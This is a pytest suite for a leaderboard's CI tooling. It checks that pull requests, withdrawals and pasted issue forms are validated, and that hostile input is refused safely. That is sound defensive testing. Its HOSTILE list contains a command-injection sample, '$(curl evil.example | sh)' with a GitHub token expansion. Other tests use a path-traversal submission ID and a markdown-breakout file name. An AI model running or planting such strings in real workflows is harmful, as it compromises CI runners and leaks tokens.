"""`tinytorch-board ci ...` against real git repositories with real commits."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import click
import pytest
from ci_helpers import BoardRepo, submission_path
from click.testing import CliRunner

from tinytorch_board.board.ci.changes import api_files
from tinytorch_board.board.ci.comment import code_block, comment_to_update
from tinytorch_board.board.ci.decide import issue_section, withdraw_keys
from tinytorch_board.cli import cli
from tinytorch_board.jsonio import dumps
from tinytorch_board.submission import MAX_FILE_BYTES
from tinytorch_board.submission.builder import withdraw_key_hash
from tinytorch_board.submission.distribution import quantiles


def run(*args: str, stdin: str | None = None):
    return CliRunner().invoke(cli, list(args), input=stdin, catch_exceptions=False)


def check_pr(repo: BoardRepo, head: str, *extra: str) -> tuple[int, dict]:
    result = run(
        "ci",
        "check-pr",
        "--repo",
        str(repo.path),
        "--base",
        "main",
        "--head",
        head,
        "--board",
        str(repo.path),
        "--json",
        *extra,
    )
    return result.exit_code, json.loads(result.stdout)


def codes(report: dict) -> set[str]:
    return {f["code"] for f in report["findings"]}


@pytest.fixture
def repo(tmp_path: Path) -> BoardRepo:
    return BoardRepo(tmp_path / "board")


def open_pr(repo: BoardRepo, change) -> str:
    """Branch from main, apply `change`, commit, go back to main; the head SHA."""
    repo.branch("pr")
    change(repo)
    head = repo.commit("pull request")
    repo.back_to_main()
    return head


# --- check-pr: the rules, one real pull request each ---------------------------------------


def test_valid_pull_request_is_accepted(repo: BoardRepo) -> None:
    doc = repo.new_doc()
    head = open_pr(repo, lambda r: r.add_doc(doc))
    status, report = check_pr(repo, head)
    assert status == 0
    assert report["ok"] is True and report["kind"] == "submission"
    assert report["findings"] == []
    assert report["head"] == head
    assert report["merge_base"] == repo.main
    assert report["auto_merge"] is True
    (landed,) = report["submissions"]
    assert landed["submission_id"] == doc["submission_id"]
    assert landed["score"] == doc["benchmark"]["score"]
    (changed,) = report["files"]
    assert changed["status"] == "added" and changed["mode"] == "100644"
    assert changed["size"] == len(dumps(doc).encode())


def edit_existing(r: BoardRepo) -> None:
    doc = dict(r.existing[0])
    doc["benchmark"] = {**doc["benchmark"], "score": 99.0}
    r.add_doc(doc)


def delete_and_add(r: BoardRepo) -> None:
    (r.path / submission_path(r.existing[0])).unlink()
    r.add_doc(r.new_doc())


def outside(r: BoardRepo) -> None:
    r.add_doc(r.new_doc())
    r.write(".github/workflows/evil.yml", "on: push\n")


def symlink(r: BoardRepo) -> None:
    doc = r.new_doc()
    target = r.path / submission_path(doc)
    target.parent.mkdir(parents=True, exist_ok=True)
    os.symlink("../../board.yaml", target)


def wrong_shard(r: BoardRepo) -> None:
    doc = r.new_doc()
    sid = doc["submission_id"]
    shard = "00" if not sid.startswith("00") else "01"
    r.add_doc(doc, f"submissions/{shard}/{sid}.json")


def second_file(r: BoardRepo) -> None:
    r.add_doc(r.new_doc())
    r.add_doc(r.new_doc())


def oversized(r: BoardRepo) -> None:
    doc = r.new_doc()
    r.write(submission_path(doc), dumps(doc) + " " * MAX_FILE_BYTES)


def invalid_json(r: BoardRepo) -> None:
    doc = r.new_doc()
    r.write(submission_path(doc), dumps(doc)[:-10])


def score_forged(r: BoardRepo) -> None:
    doc = r.new_doc()
    doc["benchmark"]["score"] = 100.0
    r.add_doc(doc)


def executable(r: BoardRepo) -> None:
    path = r.path / r.add_doc(r.new_doc())
    path.chmod(0o755)


def bad_name(r: BoardRepo) -> None:
    doc = r.new_doc()
    r.add_doc(doc, f"submissions/{doc['submission_id'][:2]}/mine.json")


def id_differs_from_name(r: BoardRepo) -> None:
    doc, other = r.new_doc(), r.new_doc()
    sid = other["submission_id"]
    r.add_doc(doc, f"submissions/{sid[:2]}/{sid}.json")


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (edit_existing, {"modified"}),
        (delete_and_add, {"removed"}),
        (outside, {"outside"}),
        (symlink, {"symlink"}),
        (wrong_shard, {"wrong-shard"}),
        (second_file, {"too-many"}),
        (oversized, {"too-large"}),
        (invalid_json, {"invalid-json"}),
        (score_forged, {"invalid"}),
        (executable, {"file-mode"}),
        (bad_name, {"bad-path"}),
        (id_differs_from_name, {"invalid"}),
    ],
    ids=lambda v: v.__name__ if callable(v) else None,
)
def test_pull_request_is_refused(repo: BoardRepo, change, expected: set[str]) -> None:
    head = open_pr(repo, change)
    status, report = check_pr(repo, head)
    assert status == 1
    assert report["ok"] is False and report["auto_merge"] is False
    assert report["kind"] == "submission"
    assert codes(report) == expected


def test_refused_files_are_never_read(repo: BoardRepo) -> None:
    head = open_pr(repo, symlink)
    _, report = check_pr(repo, head)
    (finding,) = report["findings"]
    # The link's target (board.yaml) was not followed or parsed.
    assert finding == {
        "code": "symlink",
        "path": report["files"][0]["path"],
        "message": "is a symbolic link, not a file",
    }


def test_deleting_a_submission_is_a_withdrawal_not_a_submission(repo: BoardRepo) -> None:
    head = open_pr(repo, lambda r: (r.path / submission_path(r.existing[1])).unlink())
    status, report = check_pr(repo, head)
    assert status == 1
    assert report["kind"] == "withdrawal"
    assert codes(report) == {"withdrawal"}


def test_a_pull_request_outside_submissions_is_other(repo: BoardRepo) -> None:
    head = open_pr(repo, lambda r: r.write("README.md", "# better\n"))
    status, report = check_pr(repo, head, "--exit-zero")
    assert status == 0  # --exit-zero: a decision was made
    assert report["kind"] == "other" and report["ok"] is False


def test_branch_behind_main_is_judged_against_its_merge_base(repo: BoardRepo) -> None:
    doc = repo.new_doc()
    head = open_pr(repo, lambda r: r.add_doc(doc))
    repo.add_doc(repo.new_doc())  # someone else's submission merged meanwhile
    repo.commit("another submission on main")
    status, report = check_pr(repo, head)
    assert status == 0, report["findings"]
    assert report["merge_base"] == repo.main
    assert [f["path"] for f in report["files"]] == [submission_path(doc)]


def test_batch_authors_may_add_more_files(tmp_path: Path) -> None:
    yaml = (
        "version: 1\nautomation:\n  max_files_per_pr_batch: 3\n"
        "  batch_authors: [prof-ada]\n  auto_merge: false\n"
    )
    repo = BoardRepo(tmp_path / "board", board_yaml=yaml)
    head = open_pr(repo, second_file)
    status, report = check_pr(repo, head, "--author", "Prof-Ada")
    assert status == 0 and report["max_files"] == 3
    assert len(report["submissions"]) == 2
    assert report["auto_merge"] is False  # the board asks for a maintainer
    status, report = check_pr(repo, head, "--author", "someone-else")
    assert status == 1 and codes(report) == {"too-many"}


def test_unknown_commit_is_a_clear_error(repo: BoardRepo) -> None:
    result = run("ci", "check-pr", "--repo", str(repo.path), "--base", "main", "--head", "f" * 40)
    assert result.exit_code == 1
    assert "is not in" in result.output and "git fetch" in result.output
    assert "Traceback" not in result.output


# --- the API's view of the same pull request ------------------------------------------------


def api_listing(repo: BoardRepo, head: str) -> list[dict]:
    """What GET /repos/{o}/{r}/pulls/{n}/files answers, built from git's own diff."""
    out = []
    raw = repo.git("diff", "--raw", "--no-renames", "--no-abbrev", "main", head)
    for line in raw.splitlines():
        meta, path = line.split("\t", 1)
        _, _, _, new_sha, letter = meta.split()
        status = {"A": "added", "M": "modified", "D": "removed"}[letter]
        out.append(
            {
                "sha": new_sha if letter != "D" else None,
                "filename": path,
                "status": status,
                "additions": 1,
                "deletions": 0,
                "changes": 1,
                "blob_url": f"https://github.com/o/r/blob/{head}/{path}",
                "raw_url": f"https://github.com/o/r/raw/{head}/{path}",
                "contents_url": f"https://api.github.com/repos/o/r/contents/{path}?ref={head}",
                "patch": "@@ -0,0 +1 @@",
            }
        )
    return out


def test_api_listing_with_downloaded_blobs(repo: BoardRepo, tmp_path: Path) -> None:
    doc = repo.new_doc()
    head = open_pr(repo, lambda r: r.add_doc(doc))
    listing = api_listing(repo, head)
    # Two pages, as `gh api --paginate` prints them.
    (tmp_path / "files.json").write_text(json.dumps(listing[:1]) + json.dumps(listing[1:]))
    blobs = tmp_path / "blobs"
    blobs.mkdir()
    (blobs / listing[0]["sha"]).write_text(dumps(doc), encoding="utf-8")
    result = run(
        "ci",
        "check-pr",
        "--files",
        str(tmp_path / "files.json"),
        "--blobs",
        str(blobs),
        "--board",
        str(repo.path),
        "--json",
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["submissions"][0]["submission_id"] == doc["submission_id"]


def test_api_listing_alone_applies_the_path_rules(repo: BoardRepo, tmp_path: Path) -> None:
    head = open_pr(repo, outside)
    (tmp_path / "files.json").write_text(json.dumps(api_listing(repo, head)))
    result = run(
        "ci",
        "check-pr",
        "--files",
        str(tmp_path / "files.json"),
        "--board",
        str(repo.path),
        "--json",
    )
    report = json.loads(result.stdout)
    assert result.exit_code == 1
    assert codes(report) == {"outside", "unread"}


def test_git_and_api_must_agree(repo: BoardRepo, tmp_path: Path) -> None:
    doc = repo.new_doc()
    head = open_pr(repo, lambda r: r.add_doc(doc))
    listing = api_listing(repo, head)
    listing.append({**listing[0], "filename": "submissions/ff/" + "f" * 32 + ".json"})
    (tmp_path / "files.json").write_text(json.dumps(listing))
    status, report = check_pr(repo, head, "--files", str(tmp_path / "files.json"))
    assert status == 1 and codes(report) == {"mismatch"}


@pytest.mark.parametrize(
    "text",
    ['{"filename": 3, "status": "added"}', '[{"filename": "a", "status": "exploded"}]', "[1]", "{"],
)
def test_malformed_api_listing_is_a_data_error(text: str, tmp_path: Path) -> None:
    from tinytorch_board.errors import DataFileError

    with pytest.raises(DataFileError):
        api_files(text, "files.json")


# --- withdrawals ----------------------------------------------------------------------------


def withdrawal_repo(tmp_path: Path) -> tuple[BoardRepo, str, str]:
    """A board whose first submission has a known secret; a PR deleting it; the secret."""
    repo = BoardRepo(tmp_path / "board", existing=0)
    doc = repo.new_doc()
    secret = "ab" * 32
    doc["withdraw_key_sha256"] = withdraw_key_hash(secret)
    repo.add_doc(doc)
    repo.main = repo.commit("a submission with a known key")
    head = open_pr(repo, lambda r: (r.path / submission_path(doc)).unlink())
    return repo, head, secret


def verify(repo: BoardRepo, head: str, body: str, *extra: str):
    result = run(
        "ci",
        "verify-withdrawal",
        "--repo",
        str(repo.path),
        "--base",
        "main",
        "--head",
        head,
        "--board",
        str(repo.path),
        "--body-file",
        "-",
        "--json",
        *extra,
        stdin=body,
    )
    return result.exit_code, json.loads(result.stdout)


def test_withdrawal_with_the_right_secret_is_accepted(tmp_path: Path) -> None:
    repo, head, secret = withdrawal_repo(tmp_path)
    body = f"Please remove my result.\r\n\r\nwithdraw-key: {secret}\r\n"
    status, report = verify(repo, head, body)
    assert status == 0
    assert report["ok"] is True and report["auto_merge"] is True
    assert report["path"].startswith("submissions/") and report["submission_id"] in report["path"]


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("withdraw-key: " + "cd" * 32, "wrong-key"),
        ("withdraw-key: " + "AB" * 31, "no-key"),
        ("no key here", "no-key"),
        ("withdraw-key: " + "ab" * 32 + "\nwithdraw-key: " + "cd" * 32, "no-key"),
    ],
    ids=["wrong-secret", "short-secret", "missing", "two-keys"],
)
def test_withdrawal_with_a_wrong_or_missing_secret_is_refused(
    tmp_path: Path, body: str, code: str
) -> None:
    repo, head, _ = withdrawal_repo(tmp_path)
    status, report = verify(repo, head, body)
    assert status == 1
    assert report["applies"] is True and report["ok"] is False
    assert codes(report) == {code}


def test_withdrawal_secret_is_case_insensitive_hex(tmp_path: Path) -> None:
    repo, head, secret = withdrawal_repo(tmp_path)
    status, _ = verify(repo, head, f"withdraw-key: `{secret.upper()}`")
    assert status == 0


def test_withdrawal_must_delete_exactly_one_file_and_nothing_else(tmp_path: Path) -> None:
    repo, _, secret = withdrawal_repo(tmp_path)
    repo.git("branch", "-D", "pr")

    def delete_two(r: BoardRepo) -> None:
        for path in (r.path / "submissions").rglob("*.json"):
            path.unlink()

    repo.add_doc(repo.new_doc())
    repo.main = repo.commit("second submission")
    head = open_pr(repo, delete_two)
    status, report = verify(repo, head, f"withdraw-key: {secret}")
    assert status == 1 and codes(report) == {"withdraw-many"}

    repo.git("branch", "-D", "pr")
    head = open_pr(repo, lambda r: (r.write("README.md", "x"), delete_two(r)))
    status, report = verify(repo, head, f"withdraw-key: {secret}")
    assert status == 1 and report["applies"] is False


def test_withdrawal_from_the_api_listing_reads_the_base_checkout(tmp_path: Path) -> None:
    repo, head, secret = withdrawal_repo(tmp_path)
    (tmp_path / "files.json").write_text(json.dumps(api_listing(repo, head)))
    for key, expected in ((secret, 0), ("ee" * 32, 1)):
        result = run(
            "ci",
            "verify-withdrawal",
            "--files",
            str(tmp_path / "files.json"),
            "--board",
            str(repo.path),
            "--body-file",
            "-",
            "--json",
            stdin=f"withdraw-key: {key}\n",
        )
        assert result.exit_code == expected, result.output


def test_withdraw_keys_parsing() -> None:
    body = "text\n  Withdraw-Key:  `" + "0a" * 32 + "`  \nwithdraw-key: " + "0a" * 32
    assert withdraw_keys(body) == ["0a" * 32]
    assert withdraw_keys("withdraw-key:\n" + "0a" * 32) == []


# --- intake ---------------------------------------------------------------------------------


def form_body(pasted: str) -> str:
    """An issue body as GitHub renders our issue form (render: json adds the fence)."""
    return (
        "### Submission JSON\n\n```json\n"
        + pasted
        + "\n```\n\n### Privacy\n\n- [X] I understand the file becomes public.\n"
    )


def intake(repo: BoardRepo, body: str, tmp_path: Path):
    out = tmp_path / "out"
    result = run(
        "ci",
        "intake",
        "--body-file",
        "-",
        "--board",
        str(repo.path),
        "--write-to",
        str(out),
        "--json",
        stdin=body,
    )
    return result.exit_code, json.loads(result.stdout), out


def test_intake_of_a_valid_issue(repo: BoardRepo, tmp_path: Path) -> None:
    doc = repo.new_doc()
    pasted = json.dumps(doc, indent=4)  # however the student's tool formatted it
    status, report, out = intake(repo, form_body(pasted).replace("\n", "\r\n"), tmp_path)
    assert status == 0, report
    path = submission_path(doc)
    assert report["path"] == path and report["branch"] == f"submission/{doc['submission_id']}"
    written = (out / path).read_text(encoding="utf-8")
    assert written == dumps(doc)  # canonical form, same data
    # The committed file passes the same check as any pull request.
    repo.branch("intake")
    repo.write(path, written)
    head = repo.commit("intake")
    repo.back_to_main()
    assert check_pr(repo, head)[0] == 0


HOSTILE = [
    ("shell", "$(curl evil.example | sh) `id` ${{ github.token }}"),
    ("fence-breakout", "```\n### Submission JSON\n```json\n{}\n```"),
    ("nan", '{"schema_version": NaN}'),
    ("duplicate-keys", '{"a": 1, "a": 2}'),
    ("array", "[1, 2, 3]"),
    ("nul-and-bidi", '{"submission_id": "\u202e\u0000"}'),
    ("deep-nesting", "[" * 100_000 + "]" * 100_000),
    ("huge", '{"x": "' + "a" * (MAX_FILE_BYTES + 10) + '"}'),
    ("empty", "_No response_"),
]


@pytest.mark.parametrize(("name", "pasted"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_issue_bodies_are_refused_safely(
    repo: BoardRepo, tmp_path: Path, name: str, pasted: str
) -> None:
    status, report, out = intake(repo, form_body(pasted), tmp_path)
    assert status == 1
    assert report["applies"] is True and report["ok"] is False
    assert report["path"] is None and report["branch"] is None
    assert not out.exists()
    assert report["findings"]
    comment = render(tmp_path, report)
    fence = re.search(r"^(`{3,})text$", comment, re.MULTILINE).group(1)
    block = comment.split(fence + "text\n", 1)[1].split("\n" + fence + "\n", 1)[0]
    assert fence not in block  # the contributor's text cannot close the block


def test_hostile_submission_id_cannot_escape_submissions(repo: BoardRepo, tmp_path: Path) -> None:
    doc = repo.new_doc()
    doc["submission_id"] = "../../.github/workflows/x"
    status, report, out = intake(repo, form_body(json.dumps(doc)), tmp_path)
    assert status == 1 and report["path"] is None and not out.exists()
    assert codes(report) == {"invalid"}


def test_intake_of_an_existing_submission(repo: BoardRepo, tmp_path: Path) -> None:
    status, report, out = intake(repo, form_body(dumps(repo.existing[0])), tmp_path)
    assert status == 1 and codes(report) == {"exists"} and not out.exists()


def test_an_issue_that_is_not_the_form_does_not_apply(repo: BoardRepo, tmp_path: Path) -> None:
    status, report, _ = intake(repo, "The site is down!", tmp_path)
    assert status == 1 and report["applies"] is False and report["findings"] == []


def test_issue_section_without_fence_and_with_other_sections() -> None:
    body = '### Submission JSON\n\n{"a": 1}\n\n### Privacy\n\n- [X] yes'
    assert issue_section(body) == '{"a": 1}'
    assert issue_section("### Something else\n\nx") is None


# --- comments -------------------------------------------------------------------------------


def render(tmp_path: Path, report: dict, *extra: str) -> str:
    path = tmp_path / "report.json"
    path.write_text(json.dumps(report))
    result = run("ci", "comment", "--report", str(path), *extra)
    assert result.exit_code == 0, result.output
    return result.stdout


def write_distribution(tmp_path: Path, docs: list[dict]) -> Path:
    scores = sorted(d["benchmark"]["score"] for d in docs)
    site = tmp_path / "site"
    (site / "api").mkdir(parents=True)
    doc = {
        "distribution_version": 1,
        "generated_at": "2026-11-22T10:00:00Z",
        "k": 5,
        "totals": {"submissions": len(docs), "participants": len(docs), "public_entries": 0},
        "cohorts": {},
        "groups": {
            "baseline/2/numpy": {
                "kind": "baseline",
                "suite_version": 2,
                "backend": "numpy",
                "count": len(scores),
                "quantiles": quantiles(scores),
                "systems": {},
            }
        },
    }
    (site / "api" / "distribution.json").write_text(json.dumps(doc))
    return site


def test_success_comment_places_the_score(repo: BoardRepo, tmp_path: Path) -> None:
    from tinytorch_board.board.demo_data import generate

    doc = next(d for d in repo.fresh if d["benchmark"]["backend"] == "numpy")
    head = open_pr(repo, lambda r: r.add_doc(doc))
    _, report = check_pr(repo, head)
    demo = [d for d in generate(300, seed=3) if d["benchmark"]["backend"] == "numpy"]
    site = write_distribution(tmp_path, [d for d in demo if d["benchmark"]["kind"] == "baseline"])
    comment = render(tmp_path, report, "--distribution", str(site))
    assert comment.startswith("<!-- tinytorch-board:validate -->\n### ✅ Valid submission")
    assert re.search(r"top \d+% of \d+ baseline · suite 2 · numpy results", comment)
    assert f"**{doc['benchmark']['score']:.1f}**" in comment
    assert "merged automatically" in comment
    assert head[:12] in comment


def test_success_comment_without_a_distribution(repo: BoardRepo, tmp_path: Path) -> None:
    head = open_pr(repo, lambda r: r.add_doc(r.new_doc()))
    _, report = check_pr(repo, head)
    (tmp_path / "empty-board").mkdir()
    comment = render(tmp_path, report, "--distribution", str(tmp_path / "empty-board"))
    assert "no published distribution yet" in comment


def test_a_wrong_distribution_path_is_an_error(repo: BoardRepo, tmp_path: Path) -> None:
    head = open_pr(repo, lambda r: r.add_doc(r.new_doc()))
    _, report = check_pr(repo, head)
    path = tmp_path / "report.json"
    path.write_text(json.dumps(report))
    result = run("ci", "comment", "--report", str(path), "--distribution", str(tmp_path / "typo"))
    assert result.exit_code == 1 and "no such file or folder" in result.output


def test_failure_comment_says_what_and_how(repo: BoardRepo, tmp_path: Path) -> None:
    head = open_pr(repo, lambda r: (outside(r), symlink(r)))
    _, report = check_pr(repo, head)
    comment = render(tmp_path, report)
    assert "### ❌ This pull request cannot be merged yet" in comment
    assert ".github/workflows/evil.yml: is outside submissions/" in comment
    assert "Add the JSON file itself" in comment and "separate pull request" in comment


def test_comment_text_cannot_break_out_of_its_code_block() -> None:
    block = code_block(["a ```` b", "@maintainer <img src=x>", "bell\x07 rtl\u202e"])
    assert block.startswith("`````text\n") and block.endswith("\n`````")
    assert "\\u0007" in block and "\\u202e" in block


def test_withdrawal_comment(tmp_path: Path) -> None:
    repo, head, secret = withdrawal_repo(tmp_path)
    _, good = verify(repo, head, f"withdraw-key: {secret}")
    assert "### ✅ Withdrawal verified" in render(tmp_path, good)
    _, bad = verify(repo, head, "withdraw-key: " + "cd" * 32)
    text = render(tmp_path, bad)
    assert "does not match this submission" in text and ".tinytorch/submissions/" in text


def test_find_comment_picks_the_bots_marked_comment(tmp_path: Path) -> None:
    comments = [
        {"id": 1, "user": {"login": "mallory"}, "body": "<!-- tinytorch-board:validate -->"},
        {"id": 2, "user": {"login": "github-actions[bot]"}, "body": "thanks"},
        {
            "id": 3,
            "user": {"login": "github-actions[bot]"},
            "body": "<!-- tinytorch-board:validate -->\nx",
        },
    ]
    assert comment_to_update(comments, "validate") == 3
    assert comment_to_update(comments, "withdraw") is None
    path = tmp_path / "comments.json"
    path.write_text(json.dumps(comments[:2]) + "\n" + json.dumps(comments[2:]))
    result = run("ci", "find-comment", "--comments", str(path), "--marker", "validate")
    assert result.stdout == "3\n"
    path.write_text("[]")
    assert run("ci", "find-comment", "--comments", str(path), "--marker", "intake").stdout == ""


def test_comment_refuses_a_foreign_report(tmp_path: Path) -> None:
    path = tmp_path / "report.json"
    path.write_text('{"report": "pull-request", "report_version": 99}')
    result = run("ci", "comment", "--report", str(path))
    assert result.exit_code == 1 and "not a report" in result.output


# --- board.yaml automation ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("section", "message"),
    [
        ("automation: []", "expected a mapping"),
        ("automation:\n  auto_merge: yes please", "must be true or false"),
        ("automation:\n  max_files_per_pr: 0", "from 1 to 1000"),
        ("automation:\n  batch_authors: ['bad login!']", "GitHub logins"),
        ("automation:\n  merge_everything: true", "unknown key(s): merge_everything"),
    ],
)
def test_automation_section_is_strict(tmp_path: Path, section: str, message: str) -> None:
    from tinytorch_board.board.config import load_config
    from tinytorch_board.errors import ConfigError

    (tmp_path / "board.yaml").write_text("version: 1\n" + section + "\n")
    with pytest.raises(ConfigError, match=re.escape(message)):
        load_config(tmp_path)


def test_shipped_board_yaml_has_safe_defaults(tmp_path: Path) -> None:
    from tinytorch_board.board.config import default_board_yaml, load_config

    # The package's board.yaml for new boards, not this repository's own settings.
    (tmp_path / "board.yaml").write_text(default_board_yaml(), encoding="utf-8")
    automation = load_config(tmp_path).automation
    assert automation.max_files_per_pr == 1
    assert automation.max_files_for("anyone") == 1


def test_a_malformed_distribution_does_not_stop_the_comment(
    repo: BoardRepo, tmp_path: Path
) -> None:
    head = open_pr(repo, lambda r: r.add_doc(r.new_doc()))
    _, report = check_pr(repo, head)
    bad = tmp_path / "distribution.json"
    bad.write_text('{"distribution_version": 1, "groups": {"baseline/1/numpy": {}}}')
    comment = render(tmp_path, report, "--distribution", str(bad))
    assert "could not be read" in comment and "### ✅" in comment


def test_every_ci_command_has_help_and_is_in_the_readme() -> None:
    from tinytorch_board.cli.ci import ci

    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    assert "docs/maintainers.md" in readme
    for name, command in ci.commands.items():
        assert command.help, name
        assert f"`ci {name}" in readme, name
        for param in command.params:
            if isinstance(param, click.Option):
                assert param.help, f"{name} {param.name}"


def test_hostile_file_names_stay_inside_the_comment_code_block(
    repo: BoardRepo, tmp_path: Path
) -> None:
    name = "submissions/ab/````\n@everyone [x](evil.example) \u202e.json"
    head = open_pr(repo, lambda r: r.write(name, "{}"))
    status, report = check_pr(repo, head)
    assert status == 1 and codes(report) == {"bad-path"}
    assert report["files"][0]["path"] == name  # git's -z output keeps the name intact
    comment = render(tmp_path, report)
    # Every block quoting the name (what changed, what failed) has a fence it cannot close.
    blocks = re.findall(r"^(`{3,})text\n(.*?)\n\1$", comment, re.MULTILINE | re.DOTALL)
    assert blocks and all(len(fence) == 5 for fence, _ in blocks)
    assert all("@everyone" in inside and "\\u202e" in inside for _, inside in blocks)
    outside_block = comment
    for _, inside in blocks:
        outside_block = outside_block.replace(inside, "")
    assert "@everyone" not in outside_block and "evil.example" not in outside_block


def test_intake_accepts_json_pasted_with_its_own_fence(repo: BoardRepo, tmp_path: Path) -> None:
    doc = repo.new_doc()
    status, report, _ = intake(repo, form_body("```json\n" + dumps(doc) + "```"), tmp_path)
    assert status == 0, report["findings"]
